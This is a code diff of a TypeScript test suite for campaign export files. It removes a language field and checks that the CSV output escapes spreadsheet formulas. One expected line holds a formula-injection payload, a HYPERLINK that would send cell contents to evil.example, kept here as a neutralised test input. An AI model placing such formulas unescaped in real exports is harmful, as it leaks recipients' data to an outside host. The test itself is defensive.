@@ -213,11 +213,9 @@ describe.each(BACKENDS)('campaigns on %s', (backend) => {
       const { file } = await sendNow({ channel: 'contact-center' });
       expect(file).toMatch(/contact-center\.csv$/);
       const { text, line } = await trickyLine(file);
-      expect(text.startsWith('\uFEFFsubject_id,given_name,family_name,phone,language,content_ref\r\n')).toBe(
-        true,
-      );
+      expect(text.startsWith('\uFEFFsubject_id,given_name,family_name,phone,content_ref\r\n')).toBe(true);
       expect(line).toBe(
-        `${tricky},"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'@SUM(1+1),'+32 470 12 34 56,fr,terms-2026`,
+        `${tricky},"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'@SUM(1+1),'+32 470 12 34 56,terms-2026`,
       );
     });
 
@@ -233,10 +231,12 @@ describe.each(BACKENDS)('campaigns on %s', (backend) => {
       const { file } = await sendNow({ channel: 'email' });
       expect(file).toMatch(/email\.json$/);
       const rows = JSON.parse(await readFile(join(dir, file), 'utf8')) as Record<string, string>[];
-      expect(rows.find((r) => r.subject_id === tricky)).toMatchObject({
+      // The bank's notice states no language preference: the batch carries none (BK-4).
+      expect(rows.find((r) => r.subject_id === tricky)).toEqual({
+        subject_id: tricky,
         email: '-zoe+tag@example.test',
-        language: 'fr',
         template: 'terms-2026',
+        campaign: expect.any(String),
       });
     });
   });
